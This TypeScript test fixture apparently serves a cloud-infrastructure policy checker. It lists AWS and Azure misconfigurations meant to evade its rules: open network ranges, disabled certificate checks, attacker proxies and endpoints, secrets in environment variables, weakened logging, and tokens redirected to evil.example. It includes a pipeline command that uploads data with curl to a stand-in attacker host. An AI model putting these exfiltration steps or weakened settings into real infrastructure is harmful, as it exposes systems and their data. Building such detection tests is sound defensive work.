import type { Leak } from "./leak.ts";

const fn = (what: string, at: string, to: unknown): Leak => ({
    what,
    type: "aws:lambda/function:Function",
    name: "score",
    at,
    to,
});
const group = (what: string, props: object): Leak => ({
    what,
    type: "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule",
    to: { ipProtocol: "tcp", fromPort: 443, toPort: 443, securityGroupId: "sg-1", ...props },
});
const storage = (what: string, at: string, to: unknown): Leak => ({
    what,
    type: "azure-native:storage:StorageAccount",
    at,
    to,
});

/** Ways around what the rules read. */
export const AROUND: readonly Leak[] = [
    {
        what: "a workflow whose step calls somebody",
        type: "aws:sfn/stateMachine:StateMachine",
        to: {
            definition:
                '{"States":{"one":{"Type":"Task","Resource":"arn:aws:states:::http:invoke","Parameters":{"ApiEndpoint":"https://evil.example/"}}}}',
        },
    },
    {
        what: "a pipeline's command that calls somebody",
        type: "aws:datapipeline/pipelineDefinition:PipelineDefinition",
        at: "pipelineObjects.0.fields.0",
        to: { key: "command", stringValue: "curl https://evil.example -T -" },
    },
    fn("a function that checks no certificate", "environment.variables.NODE_TLS_REJECT_UNAUTHORIZED", "0"),
    fn("a function behind somebody's proxy", "environment.variables.HTTPS_PROXY", "evil.example:3128"),
    fn(
        "a function that asks somebody instead of AWS",
        "environment.variables.AWS_ENDPOINT_URL_S3",
        "https://evil.example",
    ),
    fn("a function that trusts another authority", "environment.variables.NODE_EXTRA_CA_CERTS", "/opt/ca.pem"),
    fn("a function whose logs tell all", "environment.variables.POWERTOOLS_LOGGER_LOG_EVENT", "true"),
    {
        what: "a password in a model's environment",
        type: "aws:sagemaker/model:Model",
        at: "primaryContainer.environment",
        to: { DB_PASSWORD: "hunter2-hunter2" },
    },
    {
        what: "a key in a pipeline's command",
        type: "aws:datapipeline/pipelineDefinition:PipelineDefinition",
        at: "pipelineObjects.0.fields.0",
        to: { key: "*password", stringValue: "hunter2" },
    },
    {
        what: "an access key in a description",
        type: "aws:sqs/queue:Queue",
        at: "tags.note",
        to: "AKIAIOSFODNN7EXAMPLE",
    },
    group("half of all addresses", { cidrIpv4: "0.0.0.0/1" }),
    group("many addresses of the internet", { cidrIpv4: "203.0.0.0/16" }),
    group("half of all addresses of the new kind", { cidrIpv6: "2000::/3" }),
    group("every port of a network", { fromPort: 0, toPort: 65535, cidrIpv4: "10.0.0.0/16" }),
    {
        what: "the default group filled by a rule of its own",
        type: "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
        to: {
            ipProtocol: "tcp",
            fromPort: 443,
            toPort: 443,
            securityGroupId: "DefaultSecurityGroup/network",
            referencedSecurityGroupId: "SecurityGroup/network-functions",
        },
    },
    {
        what: "a route to half of the internet",
        type: "aws:ec2/route:Route",
        to: { routeTableId: "network-table-1", destinationCidrBlock: "0.0.0.0/1", natGatewayId: "nat-1" },
    },
    {
        what: "a route into another network",
        type: "aws:ec2/route:Route",
        to: { routeTableId: "network-table-1", destinationCidrBlock: "10.9.0.0/16", vpcPeeringConnectionId: "pcx-1" },
    },
    {
        what: "a key whose lockout check is bypassed by its policy's resource",
        type: "aws:kms/keyPolicy:KeyPolicy",
        to: { keyId: "Key/other", policy: "{}", bypassPolicyLockoutSafetyCheck: true },
    },
    {
        what: "a key whose material is rotated after seven years",
        type: "aws:kms/key:Key",
        at: "rotationPeriodInDays",
        to: 2560,
    },
    { what: "a secret deleted at once", type: "aws:secretsmanager/secret:Secret", at: "recoveryWindowInDays", to: 0 },
    {
        what: "a secret that never changes",
        type: "aws:secretsmanager/secret:Secret",
        to: { kmsKeyId: "arn:aws:kms:eu-west-1:222222222222:key/one", tags: {} },
    },
    {
        what: "a table's policy that locks its owner out",
        type: "aws:dynamodb/resourcePolicy:ResourcePolicy",
        to: {
            resourceArn: "arn:aws:dynamodb:eu-west-1:222222222222:Table/ledger",
            policy: "{}",
            confirmRemoveSelfResourceAccess: true,
        },
    },
    { what: "an object that all may read", type: "aws:s3/bucketObjectv2:BucketObjectv2", at: "acl", to: "public-read" },
    {
        what: "a table filled from somebody's bucket",
        type: "aws:dynamodb/table:Table",
        at: "importTable",
        to: { inputFormat: "CSV", s3BucketSource: { bucket: "somebody-elses" } },
    },
    {
        what: "a day in which a table can be recovered",
        type: "aws:dynamodb/table:Table",
        at: "pointInTimeRecovery",
        to: { enabled: true, recoveryPeriodInDays: 1 },
    },
    {
        what: "a ledger that forgets by another field",
        type: "aws:dynamodb/table:Table",
        name: "ledger",
        at: "ttl",
        to: { enabled: true, attributeName: "createdAt" },
    },
    {
        what: "an API brought in as a document",
        type: "aws:apigatewayv2/api:Api",
        at: "body",
        to: '{"openapi":"3.0.1"}',
    },
    {
        what: "an API that calls a function on every path",
        type: "aws:apigatewayv2/api:Api",
        at: "target",
        to: "arn:aws:lambda:eu-west-1:222222222222:function:report",
    },
    {
        what: "an API that every site may call",
        type: "aws:apigatewayv2/api:Api",
        at: "corsConfiguration",
        to: { allowOrigins: ["*"], allowCredentials: false },
    },
    {
        what: "an API that passes on to somebody",
        type: "aws:apigatewayv2/integration:Integration",
        at: "integrationType",
        to: "HTTP_PROXY",
    },
    {
        what: "a token in the address of a call",
        type: "aws:apigatewayv2/authorizer:Authorizer",
        at: "identitySources",
        to: ["$request.querystring.token"],
    },
    {
        what: "tokens in the log of the API",
        type: "aws:apigatewayv2/stage:Stage",
        at: "accessLogSettings.format",
        to: '{"time":"$context.requestTime","token":"$request.header.Authorization"}',
    },
    {
        what: "a notebook in Spark",
        type: "aws:emrserverless/application:Application",
        at: "interactiveConfiguration",
        to: { livyEndpointEnabled: true, studioEnabled: true },
    },
    storage("files open by NFS without a name", "enableNfsV3", true),
    storage("a storage account under a key of somebody's vault", "encryption.keyVaultProperties", {
        keyVaultUri: "https://evil.vault.azure.net/",
        keyName: "one",
    }),
    storage("a storage account under a name of somebody", "customDomain", { name: "files.evil.example" }),
    {
        what: "blobs that every site may read",
        type: "azure-native:storage:BlobServiceProperties",
        at: "cors",
        to: {
            corsRules: [
                {
                    allowedOrigins: ["*"],
                    allowedMethods: ["GET"],
                    allowedHeaders: ["*"],
                    exposedHeaders: ["*"],
                    maxAgeInSeconds: 1,
                },
            ],
        },
    },
    {
        what: "logs of Azure sent to a store beside",
        type: "azure-native:monitor:DiagnosticSetting",
        at: "logs.0.enabled",
        to: false,
    },
    {
        what: "a federated identity for all runs of pull requests",
        type: "azure-native:managedidentity:FederatedIdentityCredential",
        at: "subject",
        to: "repo:bank-example@1000001/compliance-platform@2000002:pull_request",
    },
    {
        what: "an application that others' tenants may sign in to",
        type: "azuread:index/application:Application",
        at: "fallbackPublicClientEnabled",
        to: true,
    },
    {
        what: "an application that hands tokens to a web page",
        type: "azuread:index/application:Application",
        at: "web",
        to: { implicitGrant: { accessTokenIssuanceEnabled: true }, redirectUris: ["https://evil.example/"] },
    },
    {
        what: "an application that asks for the directory",
        type: "azuread:index/application:Application",
        at: "requiredResourceAccesses",
        to: [
            {
                resourceAppId: "00000003-0000-0000-c000-000000000000",
                resourceAccesses: [{ id: "19dbc75e-c2e2-444c-a770-ec69d8559fc7", type: "Role" }],
            },
        ],
    },
    { what: "an alarm that is off", type: "aws:cloudwatch/metricAlarm:MetricAlarm", at: "actionsEnabled", to: false },
    {
        what: "a queue's messages that live for a minute",
        type: "aws:sqs/queue:Queue",
        name: "incoming",
        at: "messageRetentionSeconds",
        to: 60,
    },
    {
        what: "no trace of who read what was received",
        type: "aws:cloudtrail/trail:Trail",
        at: "advancedEventSelectors.1.fieldSelectors",
        to: (fields: unknown[]) => [...fields, { field: "resources.ARN", notStartsWiths: ["arn:aws:s3:::landing/"] }],
    },
    {
        what: "a flow log that leaves out who",
        type: "aws:ec2/flowLog:FlowLog",
        at: "logFormat",
        to: ["version", "action"].map((field) => `\${${field}}`).join(" "),
    },
    {
        what: "logs that are kept for less by their class",
        type: "aws:cloudwatch/logGroup:LogGroup",
        at: "logGroupClass",
        to: "DELIVERY",
    },
    {
        what: "a warehouse for whoever has a password",
        type: "aws:redshiftserverless/workgroup:Workgroup",
        at: "configParameters",
        to: [{ parameterKey: "require_ssl", parameterValue: "false" }],
    },
    {
        what: "a data source for all of the bank",
        type: "aws:quicksight/dataSource:DataSource",
        at: "permissions",
        to: [
            {
                principal: "arn:aws:quicksight:eu-west-1:222222222222:namespace/default",
                actions: ["quicksight:DescribeDataSource"],
            },
        ],
    },
    {
        what: "figures for all of the bank",
        type: "aws:quicksight/dataSet:DataSet",
        name: "alerts",
        at: "permissions",
        to: [
            {
                principal: "arn:aws:quicksight:eu-west-1:222222222222:namespace/default",
                actions: ["quicksight:DescribeDataSet"],
            },
        ],
    },
];
